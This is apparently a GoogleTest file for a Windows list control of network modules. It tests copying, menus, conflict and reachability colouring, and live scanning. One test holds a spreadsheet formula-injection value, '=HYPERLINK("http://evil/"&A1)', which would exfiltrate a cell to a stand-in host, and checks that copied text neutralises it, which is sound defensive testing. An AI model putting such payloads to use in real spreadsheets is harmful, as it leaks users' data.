// The list's menu (copying rows as Ctrl+C does, opening a module's web
// page, the move into this computer's network), the dark red text of rows
// that share an IP address and the grey text of modules this computer
// cannot reach, drawn by the list itself through its custom-draw
// notification.
#include <windows.h>
#include <commctrl.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "gdi.h"
#include "list_host.h"
#include "modal_script.h"
#include "resource.h"
#include "workstation_adapters.h"

namespace {

using kltest::Canvas;
using kltest::ClipboardText;
using kltest::ListHost;
using kltest::PopupMenuAnswer;
using kltest::Record;

constexpr int kMac = 6;
// After "Configure...", "Open web page" and "Assign addresses..."; the
// separator is not counted.
constexpr int kCopyRowItem = 3;
constexpr char kHeading[] = "IP\tSN\tGW\tDHCP\tVersion\tType\tMAC\r\n";
constexpr char kMarker[] = "marker";
constexpr COLORREF kConflict = CModuleListCtrl::kConflictTextColor;

std::uint32_t Ip(unsigned a, unsigned b, unsigned c, unsigned d) { return (a << 24) | (b << 16) | (c << 8) | d; }

std::string Line(const std::string& ip, const std::string& macLast) {
    return ip + "\t255.255.255.0\t0.0.0.0\tOff\t1.05.0\tType A\t02-00-00-00-00-" + macLast + "\r\n";
}

// What a right-click at the row's height (-1: below the third row) ends in.
void RightClick(ListHost& host, int row) {
    // Row -1: below the last row, whatever the rows' height at this scale.
    const int measured = row == -1 ? host.List().GetItemCount() - 1 : row;
    RECT bounds = {LVIR_BOUNDS, 0, 0, 0};
    if (measured < 0 || !SendMessageA(host.List(), LVM_GETITEMRECT, measured, reinterpret_cast<LPARAM>(&bounds))) {
        GetWindowRect(host.List().GetHeaderCtrl(), &bounds);
        MapWindowPoints(nullptr, host.List(), reinterpret_cast<POINT*>(&bounds), 2);
    }
    const int y = row == -1 ? bounds.bottom + ScaleToSystemDpi(20) : (bounds.top + bounds.bottom) / 2;
    POINT point = {bounds.left + 150, y};
    ClientToScreen(host.List(), &point);
    SendMessageA(host.List(), WM_CONTEXTMENU, reinterpret_cast<WPARAM>(host.List().GetSafeHwnd()),
                 MAKELPARAM(point.x, point.y));
}

// The workstation's adapter on the test segment's first segment,
// 198.18.0.1/24, as the one adapter a workstation has (a second segment's
// adapter, when there is one, is left out).
std::vector<WorkstationAdapter> SegmentAdapters() {
    std::vector<WorkstationAdapter> first;
    const std::vector<WorkstationAdapter> adapters = ReadWorkstationAdapters().value();
    for (const WorkstationAdapter& adapter : adapters) {
        if (SubnetLabel(adapter) == "198.18.0.0/24 (eth0)") first.push_back(adapter);
    }
    EXPECT_EQ(first.size(), 1u) << "no adapter at 198.18.0.1/24";
    return first;
}

class ListCopy : public ::testing::Test {
protected:
    void SetUp() override {
        host.List().AddModule(Record(0x30, Ip(10, 0, 0, 2)));
        host.List().AddModule(Record(0x10, Ip(9, 1, 1, 1)));
        host.List().AddModule(Record(0x20, Ip(192, 168, 0, 9)));
        host.SendColumnClick(kMac);  // MAC ascending, not the order of arrival
        kltest::SetClipboardMarker(kMarker);
    }

    void RightClick(int row) { ::RightClick(host, row); }

    // A key pressed in the list, with a modifier key held (0: none).
    void PressKey(UINT key, int modifier, UINT message = WM_KEYDOWN) {
        BYTE keys[256] = {};
        GetKeyboardState(keys);
        BYTE held[256];
        std::memcpy(held, keys, sizeof held);
        held[VK_CONTROL] = held[VK_SHIFT] = 0;
        if (modifier) held[modifier] = 0x80;
        SetKeyboardState(held);
        SendMessageA(host.List(), message, key, 1);
        SetKeyboardState(keys);
    }

    const std::string all = kHeading + Line("9.1.1.1", "10") + Line("192.168.0.9", "20") + Line("10.0.0.2", "30");
    ListHost host;
};

TEST_F(ListCopy, ControlCCopiesEveryRowInTheListsOrderUnderTheHeadings) {
    PressKey('C', 0);
    EXPECT_EQ(ClipboardText(), kMarker);
    PressKey('C', VK_CONTROL);
    EXPECT_EQ(ClipboardText(), all);
}

// A module's texts come from the network: a Type that a spreadsheet would
// take for a live formula, or whose leading quote would swallow the cells
// after it, is copied guarded as the command line's CSV writes it.
TEST_F(ListCopy, ControlCCopiesNetworkTextsGuarded) {
    VORN_ModuleScanResponseType formula = Record(0x40, Ip(10, 0, 0, 4));
    std::strcpy(formula.fbType, "=HYPERLINK(\"http://evil/\"&A1)");
    VORN_ModuleScanResponseType quoted = Record(0x50, Ip(10, 0, 0, 5));
    std::strcpy(quoted.fbType, "\"IO");
    host.List().AddModule(formula);
    host.List().AddModule(quoted);
    PressKey('C', VK_CONTROL);
    const std::string copied = ClipboardText();
    EXPECT_NE(copied.find("\tOff\t1.05.0\t\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\"\t02-00-00-00-00-40\r\n"),
              std::string::npos)
        << copied;
    EXPECT_NE(copied.find("\tOff\t1.05.0\t\"\"\"IO\"\t02-00-00-00-00-50\r\n"), std::string::npos) << copied;
}

TEST_F(ListCopy, MenuOnARowCopiesThatRowOrAll) {
    {
        PopupMenuAnswer copyRow(kCopyRowItem);
        RightClick(1);
        EXPECT_EQ(copyRow.Items(), (std::vector<std::string>{"Configure... [default]", "Open web page",
                                                             "Assign addresses...", "", "Copy row", "Copy all",
                                                             "Save list...", "", "Keep scanning"}));
        EXPECT_EQ(ClipboardText(), Line("192.168.0.9", "20"));
    }
    PopupMenuAnswer copyAll(kCopyRowItem + 1);
    RightClick(2);
    EXPECT_EQ(ClipboardText(), all);
}

// Answers that arrive while the menu is open move the rows; a rescan
// empties the list.
TEST_F(ListCopy, CopyRowCopiesTheModuleUnderTheCursorWhereverItMovedAndNothingOnceGone) {
    {
        PopupMenuAnswer copyRow(kCopyRowItem, [&] { host.List().AddModule(Record(0x05, Ip(1, 1, 1, 1))); });
        RightClick(1);
        EXPECT_EQ(ClipboardText(), Line("192.168.0.9", "20"));
    }
    kltest::SetClipboardMarker(kMarker);
    PopupMenuAnswer copyRow(kCopyRowItem, [&] { host.List().RemoveAllModules(); });
    RightClick(1);
    EXPECT_EQ(ClipboardText(), kMarker);
}

TEST_F(ListCopy, BelowTheLastRowOnlyTheListWideCommandsAreOffered) {
    PopupMenuAnswer first(1);
    RightClick(-1);
    EXPECT_EQ(first.Items(), (std::vector<std::string>{"Assign addresses...", "", "Copy all", "Save list...", "",
                                                       "Keep scanning"}));
    EXPECT_EQ(ClipboardText(), all);
}

TEST_F(ListCopy, MenuKeyCopiesTheSelectedRowAndEscapeCopiesNothing) {
    LVITEMA select = {};
    select.stateMask = select.state = LVIS_SELECTED | LVIS_FOCUSED;
    SendMessageA(host.List(), LVM_SETITEMSTATE, 2, reinterpret_cast<LPARAM>(&select));
    {
        PopupMenuAnswer escape(-1);
        SendMessageA(host.List(), WM_CONTEXTMENU, reinterpret_cast<WPARAM>(host.List().GetSafeHwnd()), -1);
        EXPECT_TRUE(escape.Seen());
        EXPECT_EQ(ClipboardText(), kMarker);
    }
    {
        PopupMenuAnswer copyRow(kCopyRowItem);
        SendMessageA(host.List(), WM_CONTEXTMENU, reinterpret_cast<WPARAM>(host.List().GetSafeHwnd()), -1);
        EXPECT_EQ(ClipboardText(), Line("10.0.0.2", "30"));
    }
    kltest::SetClipboardMarker(kMarker);
    PopupMenuAnswer shiftF10(kCopyRowItem);
    PressKey(VK_F10, VK_SHIFT, WM_SYSKEYDOWN);
    EXPECT_TRUE(shiftF10.Seen()) << "Shift+F10 opened no menu";
    EXPECT_EQ(ClipboardText(), Line("10.0.0.2", "30"));
}

// What the list's parent window receives, for as long as the object lives:
// the WM_COMMAND messages, and the rows the list draws (each row drawn asks
// its parent first, with NM_CUSTOMDRAW at CDDS_ITEMPREPAINT).
class ParentRecorder {
public:
    explicit ParentRecorder(HWND window) {
        target_ = window;
        commands_.clear();
        rowsDrawn_ = 0;
        hook_ = SetWindowsHookExA(WH_CALLWNDPROC, &Record, nullptr, GetCurrentThreadId());
    }
    ~ParentRecorder() { UnhookWindowsHookEx(hook_); }
    ParentRecorder(const ParentRecorder&) = delete;
    ParentRecorder& operator=(const ParentRecorder&) = delete;
    std::vector<WPARAM> Commands() const { return commands_; }
    int RowsDrawn() const { return rowsDrawn_; }

private:
    static LRESULT CALLBACK Record(int code, WPARAM wParam, LPARAM lParam) {
        const CWPSTRUCT* message = reinterpret_cast<const CWPSTRUCT*>(lParam);
        if (code == HC_ACTION && message->hwnd == target_) {
            if (message->message == WM_COMMAND) commands_.push_back(message->wParam);
            const NMCUSTOMDRAW* draw = reinterpret_cast<const NMCUSTOMDRAW*>(message->lParam);
            if (message->message == WM_NOTIFY && draw->hdr.code == static_cast<UINT>(NM_CUSTOMDRAW) &&
                draw->dwDrawStage == CDDS_ITEMPREPAINT) {
                ++rowsDrawn_;
            }
        }
        return CallNextHookEx(nullptr, code, wParam, lParam);
    }
    static HWND target_;
    static std::vector<WPARAM> commands_;
    static int rowsDrawn_;
    HHOOK hook_;
};
HWND ParentRecorder::target_ = nullptr;
std::vector<WPARAM> ParentRecorder::commands_;
int ParentRecorder::rowsDrawn_ = 0;

// "Keep scanning" ends the menu on a row and below the last row; the list's
// parent turns the live list on and off and tells the list to check it.
TEST_F(ListCopy, KeepScanningAsksTheParentAndShowsWhetherTheListIsLive) {
    ParentRecorder recorder(host.Window());
    {
        PopupMenuAnswer keep(kCopyRowItem + 3);
        RightClick(1);
        EXPECT_EQ(keep.Items().back(), "Keep scanning");
    }
    host.List().SetKeepScanningChecked(true);
    PopupMenuAnswer keep(3);
    RightClick(-1);
    EXPECT_EQ(keep.Items(), (std::vector<std::string>{"Assign addresses...", "", "Copy all", "Save list...", "",
                                                      "Keep scanning [checked]"}));
    const WPARAM command = MAKEWPARAM(ID_KEEP_SCANNING, 0);
    EXPECT_EQ(recorder.Commands(), (std::vector<WPARAM>{command, command}));
    EXPECT_EQ(ClipboardText(), kMarker);
}

// The menu of a module this computer cannot reach offers to move it in;
// a row without an address has no web page, nor one at an address of this
// computer's own, multicast or broadcast; one without a MAC no module to
// configure.
TEST(ListMenu, ItemsFollowWhatTheRowShows) {
    ListHost host;
    host.List().SetWorkstationAdapters(SegmentAdapters());
    host.List().AddModule(Record(1, Ip(192, 168, 1, 50)));
    host.List().AddModule(Record(2, Ip(198, 18, 0, 20)));
    VORN_ModuleScanResponseType withoutAddress = Record(3, 0);
    withoutAddress.ipValid = 0;
    withoutAddress.macIdValid = 0;
    host.List().AddModule(withoutAddress);
    const std::vector<std::string> copies = {"Assign addresses...", "", "Copy row", "Copy all",
                                             "Save list...", "", "Keep scanning"};
    const auto itemsIn = [&](ListHost& list, int row) {
        PopupMenuAnswer escape(-1);
        RightClick(list, row);
        std::vector<std::string> items = escape.Items();
        if (items.size() >= copies.size() && std::equal(copies.begin(), copies.end(), items.end() - copies.size())) {
            items.resize(items.size() - copies.size());
        }
        return items;
    };
    const auto itemsOf = [&](int row) { return itemsIn(host, row); };
    EXPECT_EQ(itemsOf(0), (std::vector<std::string>{"Configure... [default]", "Open web page",
                                                    "Move into this computer's network..."}));
    EXPECT_EQ(itemsOf(1), (std::vector<std::string>{"Configure... [default]", "Open web page"}));
    EXPECT_EQ(itemsOf(2), (std::vector<std::string>{"Configure... [grayed]", "Open web page [grayed]"}));
    EXPECT_EQ(itemsOf(-1), (std::vector<std::string>{"Assign addresses...", "", "Copy all", "Save list...", "",
                                                     "Keep scanning"}));
    for (const std::uint32_t ip : {Ip(0, 0, 0, 0), Ip(127, 0, 0, 1), Ip(224, 0, 0, 251), Ip(255, 255, 255, 255)}) {
        ListHost alone;
        alone.List().AddModule(Record(4, ip));
        EXPECT_EQ(itemsIn(alone, 0), (std::vector<std::string>{"Configure... [default]", "Open web page [grayed]"}))
            << alone.Column(0)[0];
    }
}

// "Assign addresses..." is for modules named by their MAC; it and "Save
// list..." go to the list's parent as commands, "Assign addresses..." with
// the row the menu was opened on selected.
TEST(ListMenu, ListWideCommandsGoToTheParentWithTheMenusRowSelected) {
    ListHost host;
    VORN_ModuleScanResponseType withoutMac = Record(3, Ip(198, 18, 0, 30));
    withoutMac.macIdValid = 0;
    host.List().AddModule(withoutMac);
    {
        PopupMenuAnswer escape(-1);
        RightClick(host, -1);
        EXPECT_EQ(escape.Items().front(), "Assign addresses... [grayed]");
    }
    host.List().AddModule(Record(1, Ip(198, 18, 0, 10)));
    host.List().AddModule(Record(2, Ip(198, 18, 0, 20)));
    ParentRecorder recorder(host.Window());
    const auto selected = [&] { return ListView_GetNextItem(host.List().m_hWnd, -1, LVNI_SELECTED); };
    {
        PopupMenuAnswer assign(2);  // after "Configure..." and "Open web page"
        RightClick(host, 1);
    }
    EXPECT_EQ(selected(), 1);
    {
        PopupMenuAnswer saveList(2);  // below the last row; the separator is not counted
        RightClick(host, -1);
    }
    EXPECT_EQ(selected(), 1);
    {
        PopupMenuAnswer assign(0);
        RightClick(host, -1);
    }
    EXPECT_EQ(selected(), -1);
    EXPECT_EQ(recorder.Commands(),
              (std::vector<WPARAM>{ID_LIST_ASSIGN_ADDRESSES, ID_LIST_SAVE_LIST, ID_LIST_ASSIGN_ADDRESSES}));
}

// The browser the test prefix opens http addresses with, for as long as
// the object lives: a program that writes the address it was given into a
// file beside itself.
class RecordingBrowser {
public:
    RecordingBrowser() {
        DeleteFileA(OpenedFile().c_str());
        RegCreateKeyExA(HKEY_CLASSES_ROOT, kCommandKey, 0, nullptr, 0, KEY_READ | KEY_WRITE, nullptr, &key_, nullptr);
        DWORD size = sizeof previous_;
        hadCommand_ = RegQueryValueExA(key_, nullptr, nullptr, nullptr, reinterpret_cast<BYTE*>(previous_), &size) ==
                      ERROR_SUCCESS;
        const std::string command = "\"" + Folder() + "url_recorder.exe\" \"%1\"";
        SetCommand(command.c_str());
    }
    ~RecordingBrowser() {
        if (hadCommand_) SetCommand(previous_);
        RegCloseKey(key_);
    }
    RecordingBrowser(const RecordingBrowser&) = delete;
    RecordingBrowser& operator=(const RecordingBrowser&) = delete;

    // What it was asked to open, once it has written it.
    std::string Opened() const {
        std::string text;
        kltest::PumpUntil([&] {
            std::FILE* file = std::fopen(OpenedFile().c_str(), "rb");
            if (!file) return false;
            char line[256] = "";
            text.assign(line, std::fread(line, 1, sizeof line, file));
            std::fclose(file);
            return !text.empty();
        });
        return text;
    }

private:
    static constexpr const char* kCommandKey = "http\\shell\\open\\command";
    static std::string Folder() {
        char path[MAX_PATH] = "";
        GetModuleFileNameA(nullptr, path, sizeof path);
        std::string folder = path;
        return folder.substr(0, folder.find_last_of('\\') + 1);
    }
    static std::string OpenedFile() { return Folder() + "opened_url.txt"; }
    void SetCommand(const char* command) {
        RegSetValueExA(key_, nullptr, 0, REG_SZ, reinterpret_cast<const BYTE*>(command),
                       static_cast<DWORD>(std::strlen(command) + 1));
    }
    HKEY key_ = nullptr;
    char previous_[MAX_PATH] = "";
    bool hadCommand_ = false;
};

TEST(ListMenu, OpenWebPageOpensTheModulesAddressInTheDefaultBrowser) {
    RecordingBrowser browser;
    ListHost host;
    host.List().AddModule(Record(1, Ip(198, 18, 0, 20)));
    PopupMenuAnswer open(1);
    RightClick(host, 0);
    EXPECT_EQ(browser.Opened(), "http://198.18.0.20/");
}

// The list painted into a memory canvas; per row and column, whether any
// pixel of the cell has the colour.
std::vector<std::vector<bool>> InkOf(ListHost& host, COLORREF color, const char* reviewName) {
    RECT client = {};
    GetClientRect(host.List(), &client);
    Canvas canvas(client.right, client.bottom);
    canvas.Fill(RGB(255, 255, 255));
    SendMessageA(host.List(), WM_PRINTCLIENT, reinterpret_cast<WPARAM>(canvas.Dc()), PRF_CLIENT | PRF_ERASEBKGND);
    std::vector<std::vector<bool>> ink;
    for (int row = 0; row < host.List().GetItemCount(); ++row) {
        ink.emplace_back();
        for (int column = 0; column <= kMac; ++column) {
            RECT cell = {LVIR_LABEL, column, 0, 0};
            SendMessageA(host.List(), LVM_GETSUBITEMRECT, row, reinterpret_cast<LPARAM>(&cell));
            bool found = false;
            for (int y = cell.top; y < cell.bottom && !found; ++y) {
                for (int x = cell.left; x < cell.right && !found; ++x) {
                    found = canvas.Pixel(x, y) == color;
                }
            }
            ink.back().push_back(found);
        }
    }
    CreateDirectoryA(KL_REVIEW_DIR, nullptr);
    canvas.SaveBmp(std::string(KL_REVIEW_DIR) + "/" + reviewName, 2);
    return ink;
}

VORN_ModuleScanResponseType WithoutIp(std::uint8_t macLast) {
    VORN_ModuleScanResponseType record = Record(macLast, 0);
    record.ipValid = 0;
    return record;
}

// This program's configure request, read back: the module's address and no MAC.
VORN_ModuleScanResponseType RequestEcho(std::uint32_t ip) {
    VORN_ModuleScanResponseType record = Record(0xFF, ip);
    record.macIdValid = 0;
    return record;
}

TEST(ListConflicts, RowsSharingAnAddressAreDarkRedInEveryColumnUntilOneMoves) {
    ListHost host;
    const std::vector<bool> red(7, true);
    const std::vector<bool> plain(7, false);
    host.List().AddModule(Record(1, Ip(198, 18, 1, 100)));
    host.List().AddModule(Record(2, Ip(198, 18, 1, 101)));
    host.List().AddModule(Record(3, Ip(198, 18, 1, 100)));
    host.List().AddModule(WithoutIp(4));  // two rows without an address do not conflict
    host.List().AddModule(WithoutIp(5));
    host.List().AddModule(RequestEcho(Ip(198, 18, 1, 101)));  // no second module at .101
    ASSERT_EQ(host.Column(0), (std::vector<std::string>{"198.18.1.100", "198.18.1.100", "198.18.1.101",
                                                       "198.18.1.101", "N/A", "N/A"}));
    ASSERT_EQ(host.Column(kMac)[3], "N/A");
    EXPECT_EQ(InkOf(host, kConflict, "conflict_rows.bmp"),
              (std::vector<std::vector<bool>>{red, red, plain, plain, plain, plain}));
    // The rescan after module 3 took another address.
    host.List().RemoveAllModules();
    host.List().AddModule(Record(1, Ip(198, 18, 1, 100)));
    host.List().AddModule(Record(2, Ip(198, 18, 1, 101)));
    host.List().AddModule(Record(3, Ip(198, 18, 1, 102)));
    EXPECT_EQ(InkOf(host, kConflict, "conflict_cleared.bmp"), (std::vector<std::vector<bool>>{plain, plain, plain}));
}

// On the test segment the workstation is 198.18.0.1/24.
TEST(ListReachability, ModulesOutOfReachAreGreyInEveryColumnAndAConflictStaysDarkRed) {
    ListHost host;
    host.List().SetWorkstationAdapters(SegmentAdapters());
    VORN_ModuleScanResponseType narrowMask = Record(3, Ip(198, 18, 0, 77));
    narrowMask.sn = 0xFFFFFFFCu;  // 198.18.0.76/30 does not hold the workstation
    for (const VORN_ModuleScanResponseType& record :
         {Record(1, Ip(198, 18, 0, 20)), Record(2, Ip(192, 168, 1, 50)), narrowMask, Record(4, Ip(10, 1, 1, 1)),
          Record(5, Ip(10, 1, 1, 1)), WithoutIp(6)}) {
        host.List().AddModule(record);
    }
    ASSERT_EQ(host.Column(0), (std::vector<std::string>{"10.1.1.1", "10.1.1.1", "192.168.1.50", "198.18.0.20",
                                                       "198.18.0.77", "N/A"}));
    const std::vector<bool> marked(7, true);
    const std::vector<bool> plain(7, false);
    EXPECT_EQ(InkOf(host, GetSysColor(COLOR_GRAYTEXT), "reachability_rows.bmp"),
              (std::vector<std::vector<bool>>{plain, plain, marked, plain, marked, plain}));
    EXPECT_EQ(InkOf(host, kConflict, "reachability_conflict.bmp"),
              (std::vector<std::vector<bool>>{marked, marked, plain, plain, plain, plain}));
    // Adapters that could not be read at the next scan: nobody knows, so
    // no row is grey.
    host.List().SetWorkstationAdapters(std::nullopt);
    EXPECT_EQ(InkOf(host, GetSysColor(COLOR_GRAYTEXT), "reachability_unknown.bmp"),
              std::vector<std::vector<bool>>(6, plain));
}

// With a second adapter (198.19.0.1/24 on eth1), the move offers each
// subnet; run on the two-segment test segment only.
TEST(TwoAdapters, TheMoveOffersEachSubnetOfThisComputer) {
    ListHost host;
    host.List().SetWorkstationAdapters(ReadWorkstationAdapters());
    host.List().AddModule(Record(1, Ip(192, 168, 1, 50)));
    PopupMenuAnswer escape(-1);
    RightClick(host, 0);
    const std::string move = "Move into this computer's network...";
    EXPECT_EQ(escape.Items(),
              (std::vector<std::string>{"Configure... [default]", "Open web page", move,
                                        move + ">198.18.0.0/24 (eth0)", move + ">198.19.0.0/24 (eth1)",
                                        "Assign addresses...", "", "Copy row", "Copy all", "Save list...", "",
                                        "Keep scanning"}));
}

// The list while it keeps scanning, fed as the main dialog feeds it: rounds
// of answers, each closed by the next live scan.
class LiveList : public ::testing::Test {
protected:
    void SetUp() override {
        ShowWindow(host.Window(), SW_SHOWNOACTIVATE);
        for (std::uint8_t n = 1; n <= 4; ++n) {
            answers[n] = Module(n);
            host.List().TakeLiveAnswer(answers[n]);
        }
        Settle();
    }
    static VORN_ModuleScanResponseType Module(std::uint8_t n) { return Record(n, Ip(198, 18, 1, 100 + n)); }
    // The modules named answer as they are, then the next live scan closes
    // the round.
    void Round(std::initializer_list<std::uint8_t> answering) {
        for (const std::uint8_t n : answering) host.List().TakeLiveAnswer(answers[n]);
        host.List().CloseLiveRound();
    }
    // Drawn as it stands, so that only later changes need painting.
    void Settle() {
        kltest::PumpFor(50);
        UpdateWindow(host.List());
    }
    bool NeedsPainting() {
        RECT rect;
        return GetUpdateRect(host.List(), &rect, FALSE) != FALSE;
    }
    std::vector<bool> Missing() {
        std::vector<bool> missing;
        for (int row = 0; row < host.List().GetItemCount(); ++row) missing.push_back(host.List().IsMissingRow(row));
        return missing;
    }
    ListHost host;
    std::map<std::uint8_t, VORN_ModuleScanResponseType> answers;
};

TEST_F(LiveList, AnswersThatChangeNothingDrawNothingAndANewAddressMovesOnlyItsRow) {
    ASSERT_EQ(host.Column(0),
              (std::vector<std::string>{"198.18.1.101", "198.18.1.102", "198.18.1.103", "198.18.1.104"}));
    VORN_ModuleScanResponseType renamed = Module(3);
    std::snprintf(renamed.hn, sizeof renamed.hn, "%s", "press_9");
    renamed.hnValid = 1;
    {
        ParentRecorder recorder(host.Window());
        for (const VORN_ModuleScanResponseType& answer : {Module(1), Module(2), renamed, Module(4)}) {
            host.List().TakeLiveAnswer(answer);
        }
        host.List().CloseLiveRound();
        Settle();
        EXPECT_EQ(recorder.RowsDrawn(), 0) << "rows drawn again although their texts are the same";
    }
    // The host name is no column, but the configure dialog starts from the latest answer.
    EXPECT_STREQ(host.List().Modules().Find(renamed.macId)->hn, "press_9");

    LVITEMA select = {};
    select.stateMask = select.state = LVIS_SELECTED | LVIS_FOCUSED;
    SendMessageA(host.List(), LVM_SETITEMSTATE, 1, reinterpret_cast<LPARAM>(&select));
    Settle();
    host.List().TakeLiveAnswer(Record(2, Ip(198, 18, 1, 150)));
    EXPECT_TRUE(NeedsPainting());
    EXPECT_EQ(host.Column(0),
              (std::vector<std::string>{"198.18.1.101", "198.18.1.103", "198.18.1.104", "198.18.1.150"}));
    EXPECT_EQ(host.Column(kMac), (std::vector<std::string>{"02-00-00-00-00-01", "02-00-00-00-00-03",
                                                           "02-00-00-00-00-04", "02-00-00-00-00-02"}));
    EXPECT_EQ(SendMessageA(host.List(), LVM_GETNEXTITEM, static_cast<WPARAM>(-1), LVNI_SELECTED), 3)
        << "the moved row lost its selection";
    EXPECT_EQ(host.List().Modules().size(), 4u);
}

// The longest run of ink along one pixel line of the row's cells: a line
// through the row's texts runs across each cell.
std::vector<int> LongestRuns(ListHost& host) {
    RECT client = {};
    GetClientRect(host.List(), &client);
    Canvas canvas(client.right, client.bottom);
    canvas.Fill(RGB(255, 255, 255));
    SendMessageA(host.List(), WM_PRINTCLIENT, reinterpret_cast<WPARAM>(canvas.Dc()), PRF_CLIENT | PRF_ERASEBKGND);
    std::vector<int> runs;
    for (int row = 0; row < host.List().GetItemCount(); ++row) {
        RECT cell = {LVIR_LABEL, 0, 0, 0};
        SendMessageA(host.List(), LVM_GETSUBITEMRECT, row, reinterpret_cast<LPARAM>(&cell));
        int longest = 0;
        for (int y = cell.top; y < cell.bottom; ++y) {
            int run = 0;
            for (int x = cell.left; x < cell.right; ++x) {
                run = canvas.Pixel(x, y) == RGB(255, 255, 255) ? 0 : run + 1;
                longest = std::max(longest, run);
            }
        }
        runs.push_back(longest);
    }
    CreateDirectoryA(KL_REVIEW_DIR, nullptr);
    canvas.SaveBmp(std::string(KL_REVIEW_DIR) + "/missing_row.bmp", 2);
    return runs;
}

TEST_F(LiveList, AModuleSilentForTwoRoundsIsStruckThroughInItsColourUntilItAnswers) {
    // Module 4 takes module 3's address: both rows are dark red.
    answers[4] = Record(4, Ip(198, 18, 1, 103));
    Round({1, 2, 3, 4});
    Round({1, 2, 4});
    EXPECT_EQ(Missing(), (std::vector<bool>{false, false, false, false})) << "missing after one silent round";
    EXPECT_EQ(host.List().MissingRowCount(), 0u);
    Round({1, 2, 4});
    EXPECT_EQ(Missing(), (std::vector<bool>{false, false, true, false}));
    EXPECT_EQ(host.List().GetItemCount(), 4);
    EXPECT_EQ(host.List().ModuleRowCount(), 4u);
    EXPECT_EQ(host.List().MissingRowCount(), 1u);
    EXPECT_TRUE(NeedsPainting());
    // A line as long as an address runs through the struck row's IP only.
    const int line = ScaleToSystemDpi(40);
    const std::vector<int> runs = LongestRuns(host);
    ASSERT_EQ(runs.size(), 4u);
    EXPECT_LT(runs[0], line);
    EXPECT_LT(runs[1], line);
    EXPECT_GE(runs[2], line) << "the missing row is not struck through";
    EXPECT_LT(runs[3], line);
    EXPECT_EQ(InkOf(host, kConflict, "missing_conflict.bmp")[2], std::vector<bool>(7, true));

    host.List().TakeLiveAnswer(Module(3));
    EXPECT_EQ(Missing(), (std::vector<bool>{false, false, false, false}));
    EXPECT_EQ(host.List().MissingRowCount(), 0u);
    EXPECT_LT(LongestRuns(host)[2], line);
}

// The echo of the program's own configure request is listed as a row
// without a MAC; it goes when it misses a round, and no module is counted
// for it.
TEST_F(LiveList, ARowWithoutMacGoesWhenItMissesARound) {
    VORN_ModuleScanResponseType echo = Record(0, 0);
    std::memset(echo.macId, 0xFF, sizeof echo.macId);
    echo.macIdValid = 0;
    echo.ipValid = 0;
    host.List().TakeLiveAnswer(echo);
    EXPECT_EQ(host.List().GetItemCount(), 5);
    EXPECT_EQ(host.List().ModuleRowCount(), 4u);
    Round({1, 2, 3, 4});
    EXPECT_EQ(host.List().GetItemCount(), 5);
    Round({1, 2, 3, 4});
    EXPECT_EQ(host.Column(kMac), (std::vector<std::string>{"02-00-00-00-00-01", "02-00-00-00-00-02",
                                                           "02-00-00-00-00-03", "02-00-00-00-00-04"}));
    EXPECT_EQ(host.List().Modules().size(), 4u);
    EXPECT_EQ(host.List().Modules().Find(echo.macId), nullptr);
    EXPECT_EQ(host.List().ModuleRowCount(), 4u);
    EXPECT_EQ(host.List().MissingRowCount(), 0u);
}

VORN_ModuleScanResponseType Numbered(int n) {
    VORN_ModuleScanResponseType record = Record(static_cast<std::uint8_t>(n), Ip(10, 0, n >> 8, n & 0xFF));
    record.macId[4] = static_cast<std::uint8_t>(n >> 8);
    return record;
}

// A flood of forged MACs cannot grow the list: it keeps the first 4096
// modules, live or not, and says nothing.
TEST(ListStore, KeepsTheFirst4096ModulesAndListsNoOther) {
    ListHost host;
    for (int n = 0; n < 4100; ++n) host.List().AddModule(Numbered(n));
    EXPECT_EQ(host.List().GetItemCount(), 4096);
    host.List().TakeLiveAnswer(Numbered(4200));
    EXPECT_EQ(host.List().GetItemCount(), 4096);
}

}  // namespace
